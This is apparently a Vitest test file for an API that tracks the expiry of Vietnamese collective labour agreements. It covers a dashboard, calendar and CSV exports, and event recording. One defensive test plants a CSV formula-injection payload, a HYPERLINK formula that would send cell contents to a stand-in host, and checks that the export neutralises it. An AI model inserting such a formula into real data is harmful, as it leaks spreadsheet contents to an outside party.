import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app.ts';
import { addSamples, errorOf, tempLibrary } from '../helpers.ts';

const TOKEN = 'test-token-0123456789';
const auth = { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'application/json' };
const cleanups: Array<() => void> = [];

/** The sample library in its own temporary directory, so tests that record events do not affect others. */
function sampleApp() {
  const { library, cleanup } = tempLibrary();
  cleanups.push(cleanup);
  addSamples(library);
  return createApp({ library, apiToken: TOKEN, today: () => '2026-11-23' });
}

let app: ReturnType<typeof createApp>;
beforeAll(() => {
  app = sampleApp();
});
afterAll(() => {
  for (const cleanup of cleanups) cleanup();
});

interface Dashboard {
  on: string;
  counts: Record<string, number>;
  total: number;
  items: Array<{
    id: string;
    status: string;
    daysToExpiry?: number;
    continuationDaysLeft?: number;
    action: { vi: string };
    grade: null;
  }>;
}

describe('GET /api/expiry', () => {
  it('shows every status in the sample library, the most urgent first', async () => {
    const body = (await (await app.request('/api/expiry')).json()) as Dashboard;
    expect(body.on).toBe('2026-11-23');
    expect(body.counts).toEqual({
      continuation: 2,
      renewal_window: 4,
      expired: 3,
      unknown: 1,
      in_force: 5,
      not_yet_effective: 1,
    });
    expect(body.items.map((i) => i.status).slice(0, 6)).toEqual([
      'continuation',
      'continuation',
      'renewal_window',
      'renewal_window',
      'renewal_window',
      'renewal_window',
    ]);
    expect(body.items[0]).toMatchObject({
      id: 'da-giay-thai-binh-duong-2023',
      continuationDaysLeft: 36,
      grade: null,
    });
    expect(body.items[2]?.action.vi).toBe('Đôn đốc thương lượng ký mới — còn 38 ngày trước khi hết hạn');
    // Phú Hưng's 2021 agreement expired and was renewed by its 2024 one.
    expect(body.items.find((i) => i.id === 'det-may-phu-hung-2021')).toMatchObject({
      status: 'expired',
      supersededBy: 'det-may-phu-hung-2024',
      flags: expect.arrayContaining(['superseded']),
    });
  });

  it('filters by district, superior union, status and days ahead', async () => {
    const get = async (query: string) =>
      (await (await app.request(`/api/expiry?${query}`)).json()) as Dashboard;
    const hoangMai = await get('district=Hoàng Mai');
    expect(hoangMai.items.map((i) => i.id)).toEqual(['van-tai-xe-buyt-thu-do-2024']);
    const union = await get(`superiorUnion=${encodeURIComponent('cong doan cac khu cong nghiep dong nai')}`);
    expect(union.items.map((i) => i.id).sort()).toEqual([
      'che-bien-go-tam-phuoc-2026',
      'da-giay-thai-binh-duong-2023',
    ]);
    expect((await get('status=expired,unknown')).items.map((i) => i.status).sort()).toEqual([
      'expired',
      'expired',
      'expired',
      'unknown',
    ]);
    const soon = await get('within=45&on=2026-11-23');
    expect(soon.items.map((i) => i.id)).toEqual([
      'da-giay-thai-binh-duong-2023',
      'dien-luc-mien-trung-2024',
      'van-tai-xe-buyt-thu-do-2024',
    ]);
  });

  it('answers 400 for a bad status, date or number of days', async () => {
    expect((await errorOf(await app.request('/api/expiry?status=old'))).code).toBe('invalid_input');
    expect((await errorOf(await app.request('/api/expiry?on=2026-13-01'))).code).toBe('invalid_input');
    expect((await errorOf(await app.request('/api/expiry?within=-1'))).code).toBe('invalid_input');
    expect((await errorOf(await app.request('/api/expiry?province=Atlantis'))).code).toBe('invalid_input');
  });
});

describe('GET /api/expiry.ics', () => {
  it('is a calendar an independent parser reads: one expiry event and one window event per agreement, stable UIDs', async () => {
    const res = await app.request('/api/expiry.ics?district=Hoàng Mai');
    expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    const text = await res.text();
    const calendar = new ICAL.Component(ICAL.parse(text));
    const events = calendar.getAllSubcomponents('vevent').map((v) => new ICAL.Event(v));
    expect(events.map((e) => e.uid)).toEqual([
      'van-tai-xe-buyt-thu-do-2024.het-han@thu-vien-thoa-uoc',
      'van-tai-xe-buyt-thu-do-2024.thuong-luong@thu-vien-thoa-uoc',
    ]);
    const [expiry, window] = events;
    expect(expiry?.summary).toBe('Hết hạn thỏa ước: Công ty Cổ phần Xe buýt Thủ Đô');
    expect(expiry?.startDate.toString()).toBe('2026-12-31');
    expect(expiry?.startDate.isDate).toBe(true);
    expect(window?.startDate.toString()).toBe('2026-10-02');
    const alarm = expiry?.component.getFirstSubcomponent('valarm');
    expect(alarm?.getFirstPropertyValue('trigger')?.toString()).toBe('-P90D');
    const again = await (await app.request('/api/expiry.ics?district=Hoàng Mai')).text();
    const uids = (ics: string) => [...ics.matchAll(/^UID:(.*)$/gm)].map((m) => m[1]);
    expect(uids(again)).toEqual(uids(text));
  });
});

describe('GET /api/expiry.csv', () => {
  it('opens in a CSV parser with Vietnamese intact, a BOM for Excel and Vietnamese column names', async () => {
    const res = await app.request('/api/expiry.csv?within=90');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(new TextDecoder().decode(bytes.slice(3)), { columns: true }) as Array<
      Record<string, string>
    >;
    expect(rows).toHaveLength(6);
    expect(Object.keys(rows[0]!)).toContain('Ngày hết hạn');
    expect(rows[0]).toMatchObject({
      'Doanh nghiệp': 'Công ty TNHH Giày da Thái Bình Dương',
      'Trạng thái': 'Hết hạn, đang áp dụng tiếp',
      'Số ngày áp dụng tiếp còn lại': '36',
      'Quận/huyện, khu công nghiệp': 'Các Khu công nghiệp Đồng Nai',
    });
  });
});

describe('GET /api/expiry.csv with hostile names', () => {
  it('never exports an employer named like a formula as a live formula', async () => {
    const app = sampleApp();
    const hostile = '=HYPERLINK("http://x.example/?"&A2,"Bấm để xem")';
    const text = 'Điều 1. Thời hạn\nThỏa ước có hiệu lực từ ngày 01/01/2024 đến ngày 31/12/2026.';
    const res = await app.request('/api/agreements', {
      method: 'POST',
      headers: auth,
      body: JSON.stringify({ filename: 'cong-thuc.txt', content: text, metadata: { employer: hostile } }),
    });
    expect(res.status).toBe(201);
    const csv = await (await app.request('/api/expiry.csv?within=90')).text();
    const rows = parseCsv(csv, { columns: true, bom: true }) as Array<Record<string, string>>;
    const row = rows.find((r) => r['Mã thỏa ước'] === 'cong-thuc');
    expect(row?.['Doanh nghiệp']).toBe(`'${hostile}`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});

describe('POST /api/agreements/:id/events', () => {
  let app: ReturnType<typeof createApp>;
  beforeAll(() => {
    app = sampleApp();
  });
  const post = (id: string, body: unknown, headers: Record<string, string> = auth) =>
    app.request(`/api/agreements/${id}/events`, { method: 'POST', body: JSON.stringify(body), headers });

  it('records a filing, which clears the overdue flag', async () => {
    const res = await post('thuy-san-mekong-2025', {
      type: 'filed',
      date: '2025-12-24',
      recordedBy: 'LĐLĐ tỉnh',
    });
    expect(res.status).toBe(201);
    const body = (await res.json()) as {
      event: { id: number; type: string };
      expiry: { flags: string[]; filedOn: string };
    };
    expect(body.event.type).toBe('filed');
    expect(body.expiry.flags).not.toContain('filing_overdue');
    expect(body.expiry.filedOn).toBe('2025-12-24');
  });

  it('extends an agreement: the expiry moves, the history keeps the original', async () => {
    const res = await post('det-may-phu-hung-2024', {
      type: 'extended',
      date: '2026-11-20',
      extendedTo: '2027-12-31',
      note: 'Biểu quyết 78% tán thành',
    });
    expect(res.status).toBe(201);
    const events = (await (await app.request('/api/agreements/det-may-phu-hung-2024/events')).json()) as {
      events: Array<{ type: string; extendedTo: string; note: string }>;
      expiry: { status: string; expiresOn: string; originalExpiresOn: string };
    };
    expect(events.events).toEqual([
      expect.objectContaining({
        type: 'extended',
        extendedTo: '2027-12-31',
        note: 'Biểu quyết 78% tán thành',
      }),
    ]);
    expect(events.expiry).toMatchObject({
      status: 'in_force',
      expiresOn: '2027-12-31',
      originalExpiresOn: '2027-01-31',
    });
    const dashboard = (await (await app.request('/api/expiry?status=in_force')).json()) as Dashboard;
    expect(dashboard.items.map((i) => i.id)).toContain('det-may-phu-hung-2024');
    const ics = await (await app.request('/api/expiry.ics')).text();
    expect(ics).toContain('DTSTART;VALUE=DATE:20271231');
  });

  it('records a replacement: the old agreement is marked superseded', async () => {
    const res = await post('cao-su-phu-rieng-2021', {
      type: 'replaced',
      date: '2024-05-01',
      replacedBy: 'dien-tu-tan-phat-2025',
    });
    expect(res.status).toBe(201);
    const body = (await res.json()) as {
      expiry: { supersededBy: string; flags: string[]; action: { vi: string } };
    };
    expect(body.expiry).toMatchObject({ supersededBy: 'dien-tu-tan-phat-2025' });
    expect(body.expiry.flags).toContain('superseded');
  });

  it('refuses writes without the token, bad events, and unknown agreements', async () => {
    expect(
      (
        await errorOf(
          await post(
            'det-may-phu-hung-2024',
            { type: 'filed', date: '2024-01-20' },
            { 'Content-Type': 'application/json' },
          ),
        )
      ).status,
    ).toBe(401);
    expect(
      (await errorOf(await post('det-may-phu-hung-2024', { type: 'moved', date: '2024-01-20' }))).code,
    ).toBe('invalid_input');
    expect(
      (await errorOf(await post('det-may-phu-hung-2024', { type: 'extended', date: '2026-11-20' }))).code,
    ).toBe('invalid_input');
    expect(
      (
        await errorOf(
          await post('ngan-hang-sao-viet-2025', {
            type: 'extended',
            date: '2026-11-20',
            extendedTo: '2026-12-01',
          }),
        )
      ).code,
    ).toBe('invalid_event');
    expect(
      (
        await errorOf(
          await post('ngan-hang-sao-viet-2025', {
            type: 'replaced',
            date: '2026-11-20',
            replacedBy: 'ngan-hang-sao-viet-2025',
          }),
        )
      ).code,
    ).toBe('invalid_event');
    expect(
      (
        await errorOf(
          await post('ngan-hang-sao-viet-2025', {
            type: 'replaced',
            date: '2026-11-20',
            replacedBy: 'khong-co',
          }),
        )
      ).status,
    ).toBe(404);
    expect((await errorOf(await post('khong-co', { type: 'filed', date: '2024-01-20' }))).status).toBe(404);
    const notJson = await app.request('/api/agreements/ngan-hang-sao-viet-2025/events', {
      method: 'POST',
      body: '{',
      headers: auth,
    });
    expect((await errorOf(notJson)).code).toBe('invalid_json');
  });
});
